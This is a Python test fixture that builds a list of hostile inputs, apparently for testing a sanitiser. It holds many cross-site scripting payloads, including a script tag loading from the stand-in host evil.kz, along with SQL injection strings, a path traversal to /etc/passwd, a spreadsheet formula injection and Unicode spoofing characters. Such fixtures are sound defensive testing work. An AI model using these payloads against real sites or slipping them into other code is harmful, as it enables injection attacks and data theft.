"""Texts of the kinds that the public collections of script injections are made of."""

import itertools

_CALLS = ["alert(1)", "confirm`1`", "self['ale'+'rt'](1)", "eval(atob('YWxlcnQoMSk='))"]
_HANDLERS = ["onerror", "onload", "ONMOUSEOVER", "onfocus autofocus", "onpointerenter", "ontoggle"]
_TAGS = [
    "<img src=x {h}={c}>", "<svg/{h}={c}>", "<body {h}={c}>", "<details open {h}={c}>",
    "<video><source {h}={c}>", "<input {h}='{c}'>", '"><img src=x {h}="{c}">', "<math><x {h}={c}>",
]  # fmt: skip
_SHAPES = [
    "<script>{c}</script>", "<ScRiPt >{c}</sCrIpT>", "</script><script>{c}</script>",
    "<scr<script>ipt>{c}</scr</script>ipt>", "<script src=//evil.kz/x.js></script>",
    "<a href=javascript:{c}>x</a>", "<a href='java\tscript:{c}'>x</a>", "[x](javascript:{c})",
    "<iframe srcdoc='<script>{c}</script>'>", "<object data='data:text/html,<script>{c}</script>'>",
    "<form action=javascript:{c}><button>x", "<base href=javascript:{c}//>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>", "<link rel=import href=data:,{c}>",
    "<style>@import'javascript:{c}';</style>", "<div style=width:expression({c})>",
    "<!--><script>{c}</script>-->", "<![CDATA[<script>{c}</script>]]>", "]]><script>{c}</script>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>", "<template><script>{c}</script>",
    "&lt;script&gt;{c}&lt;/script&gt;", "&#60;script&#62;{c}&#60;/script&#62;",
    "\\u003cscript\\u003e{c}\\u003c/script\\u003e", "%3Cscript%3E{c}%3C/script%3E",
    "＜script＞{c}＜/script＞", "+ADw-script+AD4-{c}+ADw-/script+AD4-",
    "{{{{constructor.constructor('{c}')()}}}}", "${{{c}}}", "{{% debug %}}{{{{ {c} }}}}",
    "'-{c}-'", "\";{c};//", "`${{{c}}}`", "*/{c}/*", "\n\nLocation: javascript:{c}",
    "https://evil.kz/\"onmouseover=\"{c}", "https://evil.kz/'><script>{c}</script>",
    "https://evil.kz/<svg/onload={c}>", "http://javascript:{c}@evil.kz/", "https://a.kz/&quot;{c}",
    "<textarea></textarea><script>{c}</script>", "</textarea><script>{c}</script>",
    "</title><script>{c}</script>", "</style><script>{c}</script>", "<plaintext>{c}", "<xmp>{c}",
    "<table background=javascript:{c}>", "<svg><use href='data:image/svg+xml,{c}#x'/></svg>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={c} )//%0D%0A//</stYle/</titLe/</teXtarEa/>",
]  # fmt: skip
_ODD = [
    "\u202e<gpj.exe>\u202c", "\u2066https://gov.kz\u2069", "https://gov.kz\u202e/zk.live",
    "\ufeff<script>", "\x00<script>\x00", "\u0000", "\ud7ff\ue000\uffff", "Z\u0351\u0313\u036ba",
    "ﷺ" * 20, "👩‍👩‍👧‍👦🏽", "’; DROP TABLE comments_comment; --", "' OR 1=1 --", "%s%n%(x)s{0}{x}",
    "../../../etc/passwd", "\u3164", "ｊａｖａｓｃｒｉｐｔ：", "İıĞğ", "ẞ", "=cmd|' /C calc'!A0",
    "a" * 300, "https://" + "a." * 120 + "kz", "https://xn--/", "http://[", "https://%00.kz/",
]  # fmt: skip
HOSTILE = [
    *(tag.format(h=handler, c=call) for tag, handler, call in itertools.product(
        _TAGS, _HANDLERS, _CALLS[:2])),
    *(shape.format(c=call) for shape, call in itertools.product(_SHAPES, _CALLS)),
    *_ODD,
]  # fmt: skip
